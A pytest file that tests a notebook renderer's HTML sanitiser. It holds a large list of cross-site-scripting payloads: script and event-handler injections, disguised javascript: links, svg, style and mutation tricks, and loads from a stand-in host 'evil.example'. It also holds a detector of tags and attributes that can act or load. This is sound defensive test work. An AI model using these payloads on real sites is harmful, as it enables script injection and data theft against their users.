from html.parser import HTMLParser

import pytest
from typing_extensions import override

from server.domain.rendering import RenderFormat, RenderNoticeCode
from server.render.inline_style import safe_style
from server.render.sanitize import clean, clean_page, is_active
from tests.fixtures import make
from tests.unit.render.fakes import rendered, without_mark

BAD_TAGS = frozenset(
    [
        "script",
        "iframe",
        "frame",
        "object",
        "embed",
        "form",
        "input",
        "button",
        "meta",
        "base",
        "link",
        "style",
        "svg",
        "math",
        "video",
        "audio",
    ]
)
LOADS = frozenset(["src", "srcset", "background", "poster", "action", "formaction", "data", "ping", "xlink:href", "cite", "longdesc"])


class _Reader(HTMLParser):
    """Lists whatever in a text could act, load or leave."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.open: list[str] = []
        self.links: list[dict[str, str | None]] = []

    @override
    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in BAD_TAGS:
            self.found.append(tag)
        if tag not in {"br", "img", "hr", "col", "wbr"}:
            self.open.append(tag)
        if tag == "a":
            self.links.append(dict(attrs))
        for name, value in attrs:
            text = (value or "").lower()
            picture = tag == "img" and name == "src" and text.startswith("data:image/")
            if name.startswith("on") or (name in LOADS and not picture):
                self.found.append(f"{tag} {name}")
            if name == "href" and not text.startswith(("#nb-", "http://", "https://", "mailto:")):
                self.found.append(f"href {text}")
            if name == "style" and ("url" in text or "position" in text or "\\" in text):
                self.found.append(f"style {text}")
            if name in {"id", "name"} and not text.startswith("nb-"):
                self.found.append(f"{name} {text}")

    @override
    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.found.append(f"stray </{tag}>")


def threats(html: str) -> list[str]:
    """Return what is wrong with a sanitised fragment: nothing, one hopes."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.found + [f"open <{tag}>" for tag in reader.open]


PAYLOADS = {
    "script": "<script>evil()</script>",
    "script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "unclosed script": "<script>evil()",
    "handler": '<img src=x onerror="evil()">',
    "handler without quotes": "<p onclick=evil()>x</p>",
    "handler after a slash": "<p/onmouseover=evil()>x</p>",
    "svg handler": '<svg onload="evil()"><script>evil()</script></svg>',
    "svg with foreign content": "<svg><foreignObject><iframe src=https://evil.example></iframe></foreignObject></svg>",
    "math": '<math><mi xlink:href="javascript:evil()">x</mi></math>',
    "javascript link": '<a href="javascript:evil()">x</a>',
    "javascript link in disguise": '<a href=" java\tscript:evil()">x</a>',
    "javascript link by entities": '<a href="&#106;avascript:evil()">x</a>',
    "data link": '<a href="data:text/html,<script>evil()</script>">x</a>',
    "relative link": '<a href="/graphql?query=x">x</a>',
    "protocol-relative link": '<a href="//evil.example/">x</a>',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>evil()</script>"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "style sheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "style element": "<style>@import url(https://evil.example/x.css); body { display: none }</style>",
    "form": '<form action="https://evil.example/"><input name="p"><button formaction="https://evil.example/">x</button></form>',
    "style url": '<p style="background: url(https://evil.example/x.png)">x</p>',
    "style url escaped": '<p style="background: \\75rl(https://evil.example/x.png)">x</p>',
    "style image-set": "<p style=\"background: image-set('https://evil.example/x.png' 1x)\">x</p>",
    "style that covers the page": '<div style="position: fixed; inset: 0; z-index: 9">x</div>',
    "style that moves away": '<div style="margin-left: -9999px; transform: scale(9)">x</div>',
    "outside picture": '<img src="https://evil.example/x.png" alt="a picture">',
    "outside srcset": '<img srcset="https://evil.example/x.png 1x" alt="a picture">',
    "outside video": '<video poster="https://evil.example/x.png"><source src="https://evil.example/x.mp4"></video>',
    "table background": '<table background="https://evil.example/x.png"><tr><td>x</table>',
    "ping": '<a href="https://fine.example/" ping="https://evil.example/">x</a>',
    "break-out": "</div></div></main></body><div>x",
    "break-out of a table": "<table><tr><td></table></div></td></tr></table>x",
    "comment": "<!--><img src=x onerror=evil()>-->",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=evil()>"></noscript>',
    "textarea": '<textarea><p title="</textarea><img src=x onerror=evil()>"></textarea>',
    "attribute that looks like a tag": '<p title="<a href=https://fine.example ">x</p>',
    "clobbering": '<img name="cookie" id="body" src="data:image/png;base64,aaaa">',
    "data picture that is no picture": '<img src="data:text/html;base64,aaaa" alt="x">',
    "svg data picture": '<img src="data:image/svg+xml,<svg onload=evil()>" alt="x">',
    "null bytes": "<scr\x00ipt>evil()</scr\x00ipt>",
    "xml processing": '<?xml-stylesheet href="https://evil.example/x.css"?>x',
}


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
def test_nothing_hostile_in_html_outputs_survives(payload: str) -> None:
    html, _ = rendered(make.dump(make.notebook(make.code("1", make.html_output(payload)))))
    assert threats(html) == []
    assert "evil.example" not in html
    assert without_mark(html).startswith('<div style="contain: paint" id="nb-cell-id=id-0"')


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
@pytest.mark.parametrize("show_code", [True, False])
def test_nothing_hostile_in_markdown_survives(payload: str, *, show_code: bool) -> None:
    cells = make.markdown(payload), make.markdown(f"words {payload} words"), make.raw(payload), make.raw(payload, "text/html")
    outputs = make.display({"text/markdown": payload}), make.display({"text/latex": payload}), make.display({"text/vnd.mermaid": payload})
    html, _ = rendered(make.dump(make.notebook(*cells, make.code(payload, *outputs, make.stream(payload)))), show_code=show_code)
    assert threats(html) == []


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
def test_the_second_layer_finds_nothing_left_to_do(payload: str) -> None:
    once = clean(payload)
    assert clean_page(once) == once


METADATA_PAYLOADS = {
    "width": make.png_output({"width": '"><script>evil()</script>', "height": "1 onload=evil()"}),
    "width per media type": make.png_output({"image/png": {"width": '1 onerror="evil()"', "height": [1]}}),
    "filenames": make.png_output({"filenames": {"image/png": "https://evil.example/x.png"}}),
    "alternative text": make.png_output({"alt": '"><img src=x onerror=evil()>'}),
    "unconfined": make.png_output({"unconfined": True, "needs_background": '"><script>evil()</script>'}),
    "picture that is markup": make.png_output(data='"><script>evil()</script>'),
    "svg": make.svg_output('<svg xmlns="http://www.w3.org/2000/svg" onload="evil()"><script>evil()</script></svg>'),
    "svg file name": make.display({"image/svg+xml": make.SVG}, {"filenames": {"image/svg+xml": "https://evil.example/x.svg"}}),
    "mermaid": make.display({"text/vnd.mermaid": "</pre><script>evil()</script>"}),
    "media type": make.display({"x/<script>evil()</script>": "x"}),
    "widget": make.display({"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>evil()</script>"}}),
    "text": make.display({"text/plain": "<script>evil()</script>"}),
    "escape codes": make.stream('\x1b[38;2;1;2;3m<script>evil()</script>\x1b[48;5;"><script>evil()</script>m'),
    "traceback": make.error_output("<script>", "evil()", "<script>evil()</script>"),
}


@pytest.mark.parametrize("output", METADATA_PAYLOADS.values(), ids=METADATA_PAYLOADS)
def test_nothing_hostile_in_the_data_and_metadata_of_an_output_survives(output: dict[str, object]) -> None:
    tags = ["a jp-Dialog", '"><script>evil()</script>', "fine"]
    cell = make.code("1", output, metadata={"tags": tags, "magics_language": "<script>"}, id="id-0")
    html, _ = rendered(make.dump(make.notebook(cell, language='"><script>evil()</script>', metadata={"title": "<script>"})))
    assert threats(html) == []
    assert "evil.example" not in html
    assert "jp-Dialog" not in html
    assert "celltag_fine" in html


@pytest.mark.parametrize(
    "payload", ["script", "iframe", "form", "handler", "javascript link", "refresh", "svg handler", "object", "outside video"]
)
def test_what_was_active_leaves_a_notice_with_its_cell(payload: str) -> None:
    cells = make.markdown("words"), make.code("1", make.html_output(f"<p>words</p>{PAYLOADS[payload]}"))
    _, notices = rendered(make.dump(make.notebook(*cells)))
    assert [(notice.code, notice.cell_index) for notice in notices.all()] == [(RenderNoticeCode.ACTIVE_CONTENT_REMOVED, 1)]


@pytest.mark.parametrize("html", ["<p>on the = sign</p>", "<pre>&lt;script&gt; once = 1</pre>", "<p title='on'>a = b</p>", make.SVG])
def test_harmless_html_is_not_called_active(html: str) -> None:
    assert not is_active(html)


@pytest.mark.parametrize(
    ("html", "kept"),
    [
        (
            '<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th scope="col" colspan="2">a</th></tr></table>',
            (
                '<table border="1" class="dataframe">'
                '<thead><tr style="text-align: right"><th scope="col" colspan="2">a</th></tr></thead></table>'
            ),
        ),
        ('<h2 id="Part-1">Part</h2>', '<h2 id="nb-Part-1">Part</h2>'),
        ('<a href="#Part-1">x</a>', '<a href="#nb-Part-1">x</a>'),
        ('<a href="mailto:a@b.example">x</a>', '<a href="mailto:a@b.example" target="_blank" rel="noopener noreferrer">x</a>'),
        (
            '<a href="https://a.example/?a=1&b=2">x</a>',
            '<a href="https://a.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">x</a>',
        ),
        ('<img src="https://a.example/x.png" alt="two &lt; three">', '<span class="nbi-missing">[two &lt; three]</span>'),
        ('<img src="x.png">', '<span class="nbi-missing">[image not shown]</span>'),
        ('<img src="data:image/png;base64,aa\naa">', '<img src="data:image/png;base64,aaaa" alt="">'),
        ('<p class="highlight jp-Dialog k ansi-red-fg modal">x</p>', '<p class="highlight k ansi-red-fg">x</p>'),
        ("<details open><summary>a</summary>b</details>", '<details open=""><summary>a</summary>b</details>'),
        ("a &lt; b &amp; c", "a &lt; b &amp; c"),
        ('<table><tr><td headers="a nb-b">x</table>', '<table><tbody><tr><td headers="nb-a nb-b">x</td></tr></tbody></table>'),
    ],
)
def test_what_is_harmless_is_kept(html: str, kept: str) -> None:
    assert clean(html) == kept


@pytest.mark.parametrize(
    ("style", "kept"),
    [
        ("color: red; COLOR : Blue", "color: red; color: Blue"),
        ("width: calc(100% - 2px)", "width: calc(100% - 2px)"),
        (
            "background: linear-gradient(90deg, #d65f5f 50%, transparent 50%)",
            "background: linear-gradient(90deg, #d65f5f 50%, transparent 50%)",
        ),
        ("font-family: 'Courier New', monospace", "font-family: 'Courier New', monospace"),
        ("margin: 1px 2px", "margin: 1px 2px"),
        ("margin: -1px", None),
        ("margin: calc(-1px)", None),
        ("position: fixed", None),
        ("background: url(x)", None),
        ("background: u\\rl(x)", None),
        ("color: expression(evil)", None),
        ('font-family: "a', None),
        ("--x: red", None),
        ("color", None),
        ("color: red;" * 400, None),
        ("", None),
    ],
)
def test_a_style_keeps_its_harmless_declarations(style: str, kept: str | None) -> None:
    assert safe_style(style) == kept


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
def test_html_outputs_in_markdown_documents_are_sanitised_too(payload: str) -> None:
    text, _ = rendered(make.dump(make.notebook(make.code("1", make.html_output(payload)))), RenderFormat.MARKDOWN)
    fence, _, html = text.partition("```python\n1\n```\n")
    assert (fence, threats(html)) == ("", [])
    assert "evil.example" not in html
